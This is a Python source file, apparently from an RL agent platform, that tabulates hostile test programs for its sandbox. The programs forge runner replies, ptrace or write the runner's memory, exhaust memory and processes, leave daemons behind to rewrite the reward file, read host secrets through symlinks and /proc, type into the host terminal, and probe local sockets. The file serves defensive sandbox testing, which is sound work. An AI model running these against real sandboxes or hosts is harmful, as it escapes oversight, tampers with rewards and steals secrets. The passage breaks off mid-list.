"""The table of attacks on a sandbox: hostile programs, one property each. Data alone: `judge.py` runs and judges them.

    ATTACKS = (Attack(name, tries, program, …), …)

A program is Python that judges itself, by `won(evidence)` or `lost(why)`; an OSError that it doesn't catch is `lost`.
What only the host can see is a `witness`'s: it looks in the same way at a sandbox and at a bare run, which is the same
program as a subprocess of an ordinary user. There the attack has to succeed, or its failure inside would mean nothing.
Bare runs are harmless: bounded amounts, own folders, and victims that the judge has set up.

The file is long because it is a table.
"""

from __future__ import annotations

import asyncio
import difflib
from collections.abc import Awaitable, Callable, Collection, Mapping
from dataclasses import dataclass
from typing import Any, Protocol

from hpcrl.types import CommandResult, ConfigError

FORGED = 77  # exit status in a forged reply; no program exits with it

PRELUDE = """
import ctypes, errno, fcntl, json, mmap, os, resource, signal, socket, stat, struct, subprocess, sys, threading, time
bait = json.loads(BAIT)
runner, victim, places, token = bait["runner"], bait["victim"], bait["places"], bait["token"]
libc = ctypes.CDLL(None, use_errno=True)
MIB = 1 << 20
NEWNS, NEWUTS, NEWIPC, NEWUSER, NEWNET = 0x20000, 0x4000000, 0x8000000, 0x10000000, 0x40000000

def won(what):
    os.write(1, f"\\nSUCCEEDED {what}\\n".encode(errors="backslashreplace"))

def lost(what):
    os.write(1, f"\\nREFUSED {what}\\n".encode(errors="backslashreplace"))

def judge(success, what):
    won(what) if success else lost(what)

def hook(kind, error, trace):
    if isinstance(error, (OSError, MemoryError)):
        number = getattr(error, "errno", None) or (errno.ETIMEDOUT if isinstance(error, TimeoutError) else errno.ENOMEM)
        lost(f"{errno.errorcode.get(number, number)} {error}")
    else:
        sys.__excepthook__(kind, error, trace)
sys.excepthook = hook

def call(name, *arguments):
    '''A function of libc, or a system call by the name that the judge knows its number under. Raises OSError.'''
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in arguments]
    if name in bait["calls"]:
        name, words = "syscall", [ctypes.c_long(bait["calls"][name]), *words]
    answer = getattr(libc, name)(*words)
    if answer == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer

def first(*tries):
    '''What the first of these that isn't refused gives; raises the last one's error.'''
    for number, attempt in enumerate(tries, 1):
        try:
            return attempt()
        except OSError:
            if number == len(tries):
                raise

def as_root(flags=0):
    '''Root of a user namespace of our own, where the machine lets us.'''
    uid = os.getuid()
    try:
        call("unshare", NEWUSER | flags)
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
    except OSError:
        pass

def put(path, size):
    '''Write so many bytes, for good.'''
    fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
    for _ in range(size // MIB):
        if os.write(fd, bytes(MIB)) != MIB:
            raise OSError(errno.ENOSPC, "short write")
    return fd

def background():
    '''Go on as a daemon: forked twice, in a session of its own, with none of the pipes. The first process ends.'''
    if os.fork():
        os._exit(0)
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)

def many_files():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 1 << 16) if hard > 0 else 1 << 16, hard))
"""


class Ground(Protocol):
    """Where an attack runs: in a sandbox, or bare."""

    bait: Mapping[str, Any]
    last: CommandResult  # of the last run

    async def run(self, program: str, timeout_s: float = 10.0) -> CommandResult:
        """Raises SandboxLost when the runner no longer answers."""

    async def read(self, path: str) -> bytes:
        """As the platform reads a file that the agent was to write. Raises OSError, TimeoutError when it hangs."""

    async def write(self, path: str, data: bytes) -> None: ...

    async def reset(self) -> str:
        """Between two trajectories. Returns why it isn't clean, "" where it is."""

    def leftovers(self) -> int:
        """Processes of the agent that live though no command runs."""


Witness = Callable[[Ground], Awaitable[str]]  # evidence of success, "" where there is none


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    name: str
    tries: str
    program: str
    after: str = ""  # the next trajectory's program, after a reset
    witness: Witness | None = None
    bare: str = ""  # why it isn't run bare
    refusals: tuple[str, ...] = ()  # what counts as held: errors and limits; () for any but a timeout
    machine: tuple[str, ...] = ()  # errors by which some machines refuse it to anybody: no bare run there
    timeout_s: float = 10.0


# ---- witnesses


async def _answers(ground: Ground) -> str:
    await ground.run("lost('alive')", 3.0)  # SandboxLost is success
    return ""


async def _forged(ground: Ground) -> str:
    return "the host took a forged reply" if ground.last.code == FORGED else ""


async def _leftovers(ground: Ground) -> str:
    await asyncio.sleep(0.3)
    number = ground.leftovers()
    return f"{number} processes outlived their command" if number else ""


def _reads(path: str, times: int = 1) -> Witness:
    """The host reads this file of the work folder, and gets the secret. `{secret}` stands for the bait's."""

    async def witness(ground: Ground) -> str:
        for _ in range(times):
            try:
                data = await ground.read(path.format_map(ground.bait))
            except TimeoutError:
                return "the host's read hung"
            except OSError:
                continue
            if ground.bait["token"].encode() in data:
                return "the host read its own secret through it"
            if len(data) > 1 << 20:
                return "the host read more than its cap"
        return ""

    return witness


def _writes(path: str, look: str = "") -> Witness:
    """The host writes this file of the work folder; a file of the host was changed, or `look`, a program, says so."""

    async def witness(ground: Ground) -> str:
        try:
            await ground.write(path, b"from the host")
        except TimeoutError:
            return "the host's write hung"
        except OSError:
            pass
        if ground.bait["changed"]():
            return "the host's write changed another file of the host"
        result = await ground.run(look or "lost('nothing')")
        return "the host's write landed elsewhere" if b"SUCCEEDED" in result.stdout else ""

    return witness


async def _written_and_read(ground: Ground) -> str:
    try:
        await ground.write("note", b"1")
        return "" if await ground.read("note") == b"1" else "the host's file isn't what it wrote"
    except OSError as error:
        return f"the host can use the work folder no more: {error}"


async def _kept_output(ground: Ground) -> str:
    size = len(ground.last.stdout)
    return f"the host keeps {size} bytes" if size > 1 << 20 else ""


async def _rewritten(ground: Ground) -> str:
    """The platform writes a reward file into the work folder after the command, and reads it later."""
    await ground.write("reward.json", b"0.0")
    await asyncio.sleep(0.6)
    return "the reward file was rewritten" if await ground.read("reward.json") != b"0.0" else ""


async def _on_terminal(ground: Ground) -> str:
    return (
        "what it typed is on the host's terminal" if ground.bait["token"].encode() in ground.bait["terminal"]() else ""
    )


async def _marked(ground: Ground) -> str:
    return "a file of the host was changed" if ground.bait["changed"]() else ""


async def _victim(ground: Ground) -> str:
    return ground.bait["hurt"]()  # type: ignore[no-any-return]


# ---- taking over the runner, or its replies

_RUNNER = (
    Attack(
        name="forge-reply-through-fd",
        tries="write a reply of its own to the runner's pipe, through /proc/PID/fd",
        program="""
hits = []
for fd in os.listdir(f"/proc/{runner}/fd"):
    try:
        path = f"/proc/{runner}/fd/{fd}"
        if not stat.S_ISREG(os.stat(path).st_mode):
            with open(path, "wb", 0) as file:
                file.write(bytes.fromhex(bait["forged"]))
            hits.append(fd)
    except OSError:
        pass
lost(f"written to {hits}, and not believed")
time.sleep(0.3)
""",
        witness=_forged,
    ),
    Attack(
        name="forge-reply-on-stdout",
        tries="print a reply of its own",
        program="""
for fd in (1, 2):
    os.write(fd, bytes.fromhex(bait["forged"]))
lost("printed, and not believed")
""",
        witness=_forged,
    ),
    Attack(
        name="steal-runner-fd",
        tries="take the runner's descriptors with pidfd_getfd",
        program="""
pidfd = os.pidfd_open(runner)
for fd in range(64):
    try:
        mine = call("pidfd_getfd", pidfd, fd, 0)
        won(f"fd {fd} is {os.readlink(f'/proc/self/fd/{mine}')}")
        break
    except OSError as error:
        if error.errno != errno.EBADF:
            raise
else:
    lost("none open")
""",
        machine=("ENOSYS",),
    ),
    Attack(
        name="inherit-fd",
        tries="use a descriptor that the runner left open",
        program="""
for fd in range(3, 256):
    try:
        info = os.fstat(fd)
    except OSError:
        continue
    won(f"fd {fd}: {os.readlink(f'/proc/self/fd/{fd}')}")
    break
else:
    lost("only its own three")
""",
    ),
    Attack(
        name="trace-runner",
        tries="attach to the runner with ptrace",
        program="""
call("ptrace", 16, runner, 0, 0)
os.waitpid(runner, 0)
won("attached")
call("ptrace", 17, runner, 0, 0)
""",
        machine=("EPERM",),
    ),
    Attack(
        name="read-runner-memory",
        tries="read the runner's memory, environment and maps",
        program="""
hits = []
for name in ("mem", "environ", "maps", "auxv", "syscall", "stack"):
    try:
        with open(f"/proc/{runner}/{name}", "rb") as file:
            file.read(0 if name == "mem" else 10)
        hits.append(name)
    except OSError:
        pass
judge(hits, hits)
""",
    ),
    Attack(
        name="write-runner-memory",
        tries="write into the runner with process_vm_writev",
        program="""
where = next(line.split("-")[0] for line in open(f"/proc/{runner}/maps") if " rw-p " in line)
data = (ctypes.c_char * 8)()
ours = (ctypes.c_void_p * 2)(ctypes.addressof(data), 8)
theirs = (ctypes.c_void_p * 2)(int(where, 16), 8)
call("process_vm_readv", runner, ours, 1, theirs, 1, 0)
call("process_vm_writev", runner, ours, 1, theirs, 1, 0)
won("wrote 8 bytes, as they were")
""",
    ),
    Attack(
        name="write-runner-memory-blind",
        tries="the same without the maps: the runner's answer to a bad address tells whether it may",
        program="""
data = (ctypes.c_char * 8)()
ours = (ctypes.c_void_p * 2)(ctypes.addressof(data), 8)
try:
    call("process_vm_writev", runner, ours, 1, (ctypes.c_void_p * 2)(8, 8), 1, 0)
    won("written")
except OSError as error:
    if error.errno != errno.EFAULT:
        raise
    won("only the address was wrong")
""",
    ),
    Attack(
        name="kill-runner",
        tries="send the runner every signal",
        program="""
for number in sorted(signal.valid_signals() - {signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU}):
    try:
        os.kill(runner, number)
    except OSError:
        pass
lost("sent")
""",
        witness=_answers,
        timeout_s=3.0,
    ),
    Attack(
        name="stop-runner",
        tries="stop the runner, so that it never answers",
        program="os.kill(runner, signal.SIGSTOP)\nlost('sent')",
        witness=_answers,
        timeout_s=3.0,
    ),
    Attack(
        name="shrink-runner-limits",
        tries="lower the runner's limits for whatever it starts next",
        program="""
resource.prlimit(runner, resource.RLIMIT_NOFILE, (64, 64))
won("64 descriptors")
""",
    ),
    Attack(
        name="raise-own-limits",
        tries="raise its own limits on core dumps, file size and locked memory",
        program="""
for name, least in (("CORE", MIB), ("FSIZE", 1 << 40), ("NOFILE", 1025), ("DATA", 1 << 40)):
    number = getattr(resource, "RLIMIT_" + name)
    hard = resource.getrlimit(number)[1]
    if hard == resource.RLIM_INFINITY or hard >= least:
        resource.setrlimit(number, (hard, hard))
        won(name)
        break
else:
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (MIB, MIB))
        won("core dumps")
    except ValueError as error:
        lost(error)
""",
    ),
    Attack(
        name="rewrite-reward-later",
        tries="stay behind as a daemon and rewrite the reward file that the platform writes",
        program="""
background()
for _ in range(40):
    if os.path.exists("reward.json"):
        open("reward.json", "w").write("1.0")
    time.sleep(0.05)
""",
        witness=_rewritten,
    ),
)

# ---- memory and other amounts

_HOLD = "time.sleep(0.8)\nwon(f'held {held} MiB')"
_SOCKETS = f"""
many_files()
pairs, total = [], 0
while total < 176 * MIB:
    pair = socket.socketpair()
    pairs.append(pair)
    pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * MIB)
    pair[0].setblocking(False)
    try:
        while total < 176 * MIB:
            total += pair[0].send(bytes(65536))
    except BlockingIOError:
        pass
held = total // MIB
{_HOLD}
"""
_AMOUNTS = (
    Attack(
        name="memory-at-once",
        tries="more memory than the cap, in one piece",
        program=f"block = b'x' * (176 * MIB)\nheld = len(block) // MIB\n{_HOLD}",
    ),
    Attack(
        name="memory-leak",
        tries="the same, slowly",
        program=f"""
blocks = []
for held in range(0, 177, 4):
    blocks.append(b"x" * (4 * MIB))
    time.sleep(0.02)
{_HOLD}
""",
    ),
    Attack(
        name="memory-of-many",
        tries="the same, in eight processes",
        program="""
for _ in range(8):
    if os.fork() == 0:
        block = b"x" * (22 * MIB)
        time.sleep(1.5)
        os._exit(0)
statuses = [os.wait()[1] for _ in range(8)]
judge(not any(statuses), f"held 176 MiB in eight processes: {statuses}")
""",
    ),
    Attack(
        name="memory-shared",
        tries="the same, as shared anonymous memory",
        program=f"""
block = mmap.mmap(-1, 176 * MIB)
for number in range(176):
    block[number * MIB : (number + 1) * MIB] = b"x" * MIB
held = len(block) // MIB
{_HOLD}
""",
    ),
    Attack(
        name="memory-of-nobody-memfd",
        tries="the same, in memfds",
        program=f"""
held = 0
while held < 176:
    fd = os.memfd_create("x")
    for _ in range(16):
        os.write(fd, bytes(MIB))
        held += 1
{_HOLD}
""",
    ),
    Attack(
        name="memory-of-nobody-secret",
        tries="secret memory (memfd_secret)",
        program="judge(call('memfd_secret', 0) > 0, 'made one')",
        machine=("ENOSYS", "EPERM"),
    ),
    Attack(
        name="memory-of-nobody-sysv",
        tries="the same, in a System V segment",
        program="""
held = 176
number = call("shmget", 0, held * MIB, 0o1600)
libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(number, None, 0)
call("shmctl", number, 0, 0)
ctypes.memset(ctypes.c_void_p(address), 1, held * MIB)
libc.shmdt(ctypes.c_void_p(address))
won(f"held {held} MiB")
""",
    ),
    Attack(
        name="memory-of-sockets",
        tries="the same, in the buffers of sockets",
        program=_SOCKETS,
    ),
    Attack(
        name="memory-of-closed-sockets",
        tries="the same, where the senders have closed theirs",
        program=_SOCKETS.replace("pairs.append(pair)", "pairs.append(pair[1])"),
    ),
    Attack(
        name="memory-of-hidden-sockets",
        tries="the same, in a process that hides its descriptors",
        program="call('prctl', 4, 0, 0, 0, 0)\n" + _SOCKETS,
    ),
    Attack(
        name="memory-of-page-tables",
        tries="the same, in the tables of a huge map that holds nothing",
        program=f"""
size = 96 << 30
libc.mmap.restype = ctypes.c_void_p
address = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, ctypes.c_long(0))
if address == ctypes.c_void_p(-1).value:
    raise OSError(ctypes.get_errno(), "mmap")
libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(size), 15)
for offset in range(0, size, 2 * MIB):
    ctypes.c_char.from_address(address + offset).value
held = size >> 29
{_HOLD}
""",
    ),
    Attack(
        name="fork-bomb",
        tries="more processes than the limit",
        program="""
for number in range(40):
    if os.fork() == 0:
        time.sleep(1.0)
        os._exit(0)
won("40 processes")
""",
    ),
    Attack(
        name="fork-storm",
        tries="fork in all processes, for ever",
        program="while True:\n    try: os.fork()\n    except OSError: pass",
        bare="it has no bound",
        refusals=("processes", "memory"),
    ),
    Attack(
        name="thread-bomb",
        tries="more threads than the limit",
        program="""
try:
    for number in range(40):
        threading.Thread(target=time.sleep, args=(0.5,)).start()
    won("40 threads")
except RuntimeError as error:
    lost(error)
""",
    ),
    Attack(
        name="fill-work-folder",
        tries="more bytes than the work folder may hold",
        program="put(places[0] + '/big', 24 * MIB)\nwon('24 MiB')",
    ),
    Attack(
        name="fill-tmp",
        tries="more bytes than /tmp may hold",
        program="put(places[1] + '/big', 24 * MIB)\nwon('24 MiB')",
    ),
    Attack(
        name="fill-shm",
        tries="more bytes than /dev/shm may hold",
        program="put(places[2] + '/big', 24 * MIB)\nwon('24 MiB')",
    ),
    Attack(
        name="fill-with-deleted-files",
        tries="hide what it wrote by deleting it while open",
        program="""
for number in range(6):
    put(f"{places[0]}/{number}", 4 * MIB)
    os.unlink(f"{places[0]}/{number}")
won("24 MiB in files without a name")
""",
    ),
    Attack(
        name="many-inodes",
        tries="more files than the limit, all empty",
        program="""
for number in range(3000):
    os.close(os.open(f"{places[1]}/{number}", os.O_CREAT, 0o600))
time.sleep(1.0)
won("3000 files")
""",
    ),
    Attack(
        name="many-attributes",
        tries="memory in the extended attributes of a file",
        program="""
path = places[2] + "/file"
open(path, "w").close()
for number in range(100):
    os.setxattr(path, f"user.{number}", bytes(60000))
time.sleep(1.0)
won("6 MB in attributes")
""",
        machine=("ENOTSUP", "EOPNOTSUPP", "ENOSPC"),
    ),
    Attack(
        name="file-too-large",
        tries="a sparse file of 8 GiB",
        program="""
with open(places[0] + "/sparse", "wb") as file:
    file.truncate(8 << 30)
won("8 GiB")
""",
    ),
    Attack(
        name="too-many-open-files",
        tries="more open files than the limit",
        program="""
many_files()
for number in range(1200):
    os.open("/dev/null", os.O_RDONLY)
won("1200 open files")
""",
        machine=("EMFILE",),
    ),
    Attack(
        name="output-flood",
        tries="have the host keep whatever is printed",
        program="for _ in range(8): os.write(1, b'x' * MIB)\nlost('printed')",
        witness=_kept_output,
    ),
    Attack(
        name="spared-by-oom-killer",
        tries="be no likelier a victim of the kernel's out-of-memory killer than hpcrl itself",
        program="""
wanted = bait["oom_score_adj"]
try:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write(str(wanted))
except OSError:
    pass
now = int(open("/proc/self/oom_score_adj").read())
judge(now <= wanted and now < 1000, f"oom_score_adj {now}, the host's {wanted}")
""",
        machine=("oom_score_adj",),
    ),
    Attack(
        name="real-time-priority",
        tries="take the processor with a nicer priority",
        program="""
before = os.nice(0)
first(lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1)), lambda: os.nice(-1))
won("a higher priority")
""",
        bare="needs host root, or a limit that allows it",
        refusals=("EPERM", "EACCES"),
    ),
)

# ---- time bombs

_BOMBS = (
    Attack(
        name="daemon",
        tries="outlive the command: forked twice, in a session of its own",
        program="background()\ntime.sleep(8)",
        witness=_leftovers,
    ),
    Attack(
        name="background-child",
        tries="outlive the command as a plain child",
        program="subprocess.Popen(['sleep', '8'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nlost('ended')",
        witness=_leftovers,
    ),
    Attack(
        name="ignore-sigterm",
        tries="outlive the time limit: ignore signals, and leave the session",
        program="""
for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}:
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
if os.fork() == 0:
    os.setsid()
time.sleep(8)
""",
        witness=_leftovers,
        refusals=("timeout",),
        timeout_s=0.7,
    ),
    Attack(
        name="fork-at-exit",
        tries="outlive the command through a hook at exit",
        program="import atexit\natexit.register(lambda: (background(), time.sleep(8)))\nlost('ended')",
        witness=_leftovers,
    ),
    Attack(
        name="stopped-child",
        tries="outlive the command as a stopped process, which no signal but one wakes",
        program="""
pid = os.fork()
if pid == 0:
    for fd in range(3):
        os.close(fd)
    signal.alarm(8)
    time.sleep(8)
    os._exit(0)
os.kill(pid, signal.SIGSTOP)
subprocess.Popen(["sh", "-c", f"sleep 8; kill -9 {pid}"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
lost("ended")
""",
        witness=_leftovers,
    ),
)

# ---- files that the host reads and writes

_FILES = (
    Attack(
        name="link-to-secret",
        tries="have the host read a link to a secret of its own",
        program="os.symlink(bait['secret'], 'answer')\nlost('linked')",
        witness=_reads("answer"),
    ),
    Attack(
        name="linked-folder-to-secret",
        tries="the same by a linked folder",
        program="os.symlink(bait['folder'], 'out')\nlost('linked')",
        witness=_reads("out/secret"),
    ),
    Attack(
        name="hard-link-to-secret",
        tries="the same by a hard link",
        program="os.link(bait['secret'], 'answer')\nlost('linked')",
        witness=_reads("answer"),
    ),
    Attack(
        name="dot-dot-to-secret",
        tries="name a file above the work folder as the answer",
        program="lost('named ../secret')",
        witness=_reads("../secret"),
    ),
    Attack(
        name="absolute-path-to-secret",
        tries="name a file by its absolute path as the answer",
        program="lost('named ' + bait['secret'])",
        witness=_reads("{secret}"),
    ),
    Attack(
        name="swap-link-while-read",
        tries="swap file and link while the host reads",
        program="""
background()
stop = time.monotonic() + 4
while time.monotonic() < stop:
    os.symlink(bait["secret"], "next")
    os.rename("next", "answer")
    time.sleep(0.001)
    open("next", "w").close()
    os.rename("next", "answer")
    time.sleep(0.001)
""",
        witness=_reads("answer", times=30),
    ),
    Attack(
        name="fifo-to-read",
        tries="have the host hang on a FIFO",
        program="os.mkfifo('answer')\nlost('made')",
        witness=_reads("answer"),
    ),
    Attack(
        name="device-to-read",
        tries="have the host read an endless device",
        program="os.symlink('/dev/zero', 'answer')\nlost('linked')",
        witness=_reads("answer"),
    ),
    Attack(
        name="huge-file-to-read",
        tries="have the host read more than it asked for",
        program="open('answer', 'wb').truncate(8 * MIB)\nlost('made')",
        witness=_reads("answer"),
    ),
    Attack(
        name="link-to-write",
        tries="have the host write through a link into a file of its own",
        program="os.symlink(bait['marker'], 'answer')\nlost('linked')",
        witness=_writes("answer"),
    ),
    Attack(
        name="linked-folder-to-write",
        tries="the same by a linked folder",
        program="os.symlink(bait['folder'], 'out')\nlost('linked')",
        witness=_writes("out/marker"),
    ),
    Attack(
        name="link-to-write-inside",
        tries="divert what the host writes to another place of the agent's",
        program="os.symlink(places[1] + '/x', 'answer')\nlost('linked')",
        witness=_writes("answer", "judge(os.path.exists(places[1] + '/x'), 'there')"),
    ),
    Attack(
        name="fifo-to-write",
        tries="have the host hang on writing to a FIFO",
        program="os.mkfifo('answer')\nlost('made')",
        witness=_writes("answer"),
    ),
    Attack(
        name="replace-work-folder",
        tries="put a link to a folder of the host in the place of the work folder",
        program="""
os.chdir("/")
os.rename(places[0], places[0] + ".old")
os.symlink(bait["folder"], places[0])
lost("replaced")
""",
        witness=_writes("marker"),
    ),
    Attack(
        name="remove-work-folder",
        tries="remove the work folder, so that the platform fails",
        program="""
import shutil
shutil.rmtree(places[0], ignore_errors=True)
os.path.exists(places[0]) and os.rmdir(places[0])
lost("removed")
""",
        witness=_written_and_read,
    ),
)

# ---- what belongs to the host

_HOST = (
    Attack(
        name="read-secret",
        tries="read a file of the host that anyone may read",
        program="judge(open(bait['secret']).read() == token, 'the secret')",
    ),
    Attack(
        name="read-secret-through-proc",
        tries="the same through another process's root, folder or descriptors",
        program="""
paths = [f"/proc/{pid}/root{bait['secret']}" for pid in (1, runner, victim)]
paths += [f"/proc/{pid}/cwd/secret" for pid in (1, runner, victim)] + ["../" * 20 + bait["secret"]]
judge(first(*(lambda path=path: open(path).read() for path in paths)) == token, "the secret")
""",
    ),
    Attack(
        name="read-deleted-file",
        tries="read a deleted file that a process of the host has open",
        program="""
def reading(fd):
    with open(f"/proc/{victim}/fd/{fd}", "rb") as file:
        return file.read(100)
found = [reading(fd) for fd in os.listdir(f"/proc/{victim}/fd") if int(fd) > 2]
judge(token.encode() in found, "the secret")
""",
    ),
    Attack(
        name="change-file",
        tries="write to a file of the host that anyone may write to",
        program="open(bait['marker'], 'w').write(token)\nlost('written')",
        witness=_marked,
    ),
    Attack(
        name="write-elsewhere",
        tries="write anywhere but to its own three places",
        program="""
hits = []
for folder in (*"/ /dev /etc /home /opt /proc /root /run /sys /usr /usr/lib /var /var/tmp".split(), bait["folder"]):
    path = f"{folder}/hpcrl-attack-{os.getpid()}"
    try:
        open(path, "w").close()
        os.unlink(path)
        hits.append(folder)
    except OSError:
        pass
judge(hits, hits)
""",
    ),
    Attack(
        name="list-host-folders",
        tries="look into homes and other folders of the host",
        program="""
hits = []
for folder in ("/home", "/root", "/var", "/srv", "/mnt", "/media", "/boot", "/etc/ssh", bait["folder"]):
    try:
        os.listdir(folder)
        hits.append(folder)
    except OSError:
        pass
judge(hits, hits)
""",
    ),
    Attack(
        name="read-host-accounts",
        tries="read who the host's users are",
        program="""
import hashlib
data = open("/etc/passwd", "rb").read()
judge(hashlib.sha256(data).hexdigest() == bait["accounts"], f"{len(data)} bytes")
""",
    ),
    Attack(
        name="plant-program",
        tries="put a program of its own into a folder of PATH",
        program="""
for folder in os.environ["PATH"].split(":"):
    try:
        open(f"{folder}/hpcrl-attack", "w").close()
        won(folder)
        break
    except OSError:
        pass
else:
    lost("no folder of PATH can be written")
""",
    ),
    Attack(
        name="change-runner-file",
        tries="change the runner's program",
        program="open(bait['runner_file'], 'a').close()\nwon('opened')",
    ),
    Attack(
        name="setuid-program",
        tries="gain another user's rights through a setuid program",
        program="""
privileges = [line.split()[1] for line in open("/proc/self/status") if line.startswith("NoNewPrivs")]
found = [name for name in os.listdir("/usr/bin") if os.lstat(f"/usr/bin/{name}").st_mode & stat.S_ISUID]
nosuid = os.statvfs("/usr/bin").f_flag & os.ST_NOSUID
if not found:
    lost("none of them here")
else:
    judge(privileges == ["0"] and not nosuid, f"{found[:3]}, NoNewPrivs {privileges}, nosuid {bool(nosuid)}")
""",
        machine=("none",),
    ),
    Attack(
        name="own-environment",
        tries="find a secret in the environment that it was given",
        program="judge(token in os.environ.values(), 'the secret')",
    ),
    Attack(
        name="environment-of-others",
        tries="find it in the environment of another process",
        program="""
hits = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if token.encode() in open(f"/proc/{pid}/environ", "rb").read():
            hits.append(pid)
    except OSError:
        pass
judge(hits, hits)
""",
    ),
    Attack(
        name="command-lines-of-others",
        tries="find it in the command line of another process",
        program="""
hits = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if token.encode() in open(f"/proc/{pid}/cmdline", "rb").read():
            hits.append(pid)
    except OSError:
        pass
judge(hits, hits)
""",
    ),
    Attack(
        name="read-memory-of-others",
        tries="read the memory of a process of the host",
        program="""
with open(f"/proc/{victim}/mem", "rb", 0) as file:
    file.seek(bait["address"])
    judge(file.read(len(token)) == token.encode(), "the secret")
""",
    ),
    Attack(
        name="trace-others",
        tries="attach to a process of the host",
        program="""
call("ptrace", 16, victim, 0, 0)
os.waitpid(victim, 0)
won("attached")
call("ptrace", 17, victim, 0, 0)
""",
        machine=("EPERM",),
    ),
    Attack(
        name="kill-others",
        tries="kill a process of the host",
        program="os.kill(victim, signal.SIGKILL)\nlost('sent')",
        witness=_victim,
    ),
    Attack(
        name="kill-all",
        tries="kill whatever it may",
        program="os.kill(-1, signal.SIGTERM)\nlost('sent')",
        witness=_victim,
        bare="it would end all that this user runs",
        refusals=("ESRCH", "sent"),
    ),
    Attack(
        name="slow-down-others",
        tries="lower the priority of a process of the host",
        program="os.setpriority(os.PRIO_PROCESS, victim, 10)\nlost('set')",
        witness=_victim,
    ),
    Attack(
        name="limit-others",
        tries="lower the limits of a process of the host",
        program="resource.prlimit(victim, resource.RLIMIT_NOFILE, (64, 64))\nlost('set')",
        witness=_victim,
    ),
    Attack(
        name="memory-segment-of-others",
        tries="attach to a System V segment of the host",
        program="""
libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(bait["segment"], None, 0o10000)
if address == ctypes.c_void_p(-1).value:
    raise OSError(ctypes.get_errno(), "shmat")
judge(ctypes.string_at(address, len(token)) == token.encode(), "the secret")
""",
    ),
    Attack(
        name="write-to-terminal",
        tries="type into the terminal from which hpcrl was started",
        program="""
try:
    fd = os.open("/dev/tty", os.O_RDWR)
except OSError:
    fd = os.open(bait["tty"], os.O_RDWR)  # as the leader of a session: it becomes our terminal
for letter in token:
    try:
        fcntl.ioctl(fd, 0x5412, letter.encode())
    except OSError:
        os.write(fd, letter.encode())
lost("typed")
""",
        witness=_on_terminal,
    ),
)

# ---- the network

_HEAR = """
door.settimeout(3)
judge(door.recv(100) == token.encode(), "the server's secret")
"""
_NETWORK = (
    Attack(
        name="loopback",
        tries="reach a server on 127.0.0.1, as Dask's scheduler or an engine is",
        program=f"door = socket.create_connection(('127.0.0.1', bait['tcp']), 3)\n{_HEAR}",
    ),
    Attack(
        name="loopback-ipv6",
        tries="reach a server on ::1",
        program=f"""
if not bait["tcp6"]:
    raise OSError(errno.EAFNOSUPPORT, "no IPv6 on this machine")
door = socket.create_connection(("::1", bait["tcp6"]), 3)
{_HEAR}
""",
        machine=("EAFNOSUPPORT",),
    ),
    Attack(
        name="own-address",
        tries="reach a server on the machine's own address, as a rendezvous is",
        program=f"door = socket.create_connection((bait['host_address'], bait['wide']), 3)\n{_HEAR}",
    ),
    Attack(
        name="loopback-udp",
        tries="reach a server by UDP",
        program=f"""
door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
door.connect(("127.0.0.1", bait["udp"]))
door.send(b"?")
{_HEAR}
""",
    ),
    Attack(
        name="unix-socket",
        tries="reach a server's socket in /tmp, as an engine has it",
        program=f"door = socket.socket(socket.AF_UNIX)\ndoor.connect(bait['unix'])\n{_HEAR}",
    ),
    Attack(
        name="abstract-socket",
        tries="reach a server by a name without a file",
        program=f"door = socket.socket(socket.AF_UNIX)\ndoor.connect('\\0' + bait['abstract'])\n{_HEAR}",
    ),
    Attack(
        name="any-socket-file",
        tries="find sockets of services, such as munge, Slurm or D-Bus",
        program="""
found = []
for top in ("/run", "/var/run", "/tmp", "/var/spool", "/var/lib"):
    for folder, _, names in os.walk(top):
        try:
            found += [f"{folder}/{name}" for name in names if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode)]
        except OSError:
            pass
judge(found, found[:3])
""",
    ),
    Attack(
        name="other-interfaces",
        tries="use an interface that leads out",
        program="""
names = [name for _, name in socket.if_nameindex() if name != "lo"]
judge(names, names or "none but lo")
""",
        machine=("none",),
    ),
    Attack(
        name="raw-socket",
        tries="forge packets with a raw socket",
        program="as_root(NEWNET)\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)\nwon('opened')",
        machine=("EPERM",),
    ),
    Attack(
        name="vsock",
        tries="reach the hypervisor, which no namespace hides",
        program="socket.socket(40, socket.SOCK_STREAM)\nwon('a socket of AF_VSOCK')",
        machine=("EAFNOSUPPORT", "EPERM", "ENODEV"),
    ),
    Attack(
        name="kernel-crypto-socket",
        tries="reach the kernel's crypto (AF_ALG), its drivers' bugs included",
        program="socket.socket(38, socket.SOCK_SEQPACKET)\nwon('a socket of AF_ALG')",
        machine=("EAFNOSUPPORT", "EPERM"),
    ),
    Attack(
        name="odd-socket-families",
        tries="reach protocols that hardly anyone looks after",
        program="""
hits = []
for family in sorted(set(range(3, 46)) - {socket.AF_INET6, socket.AF_NETLINK}):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind).close()
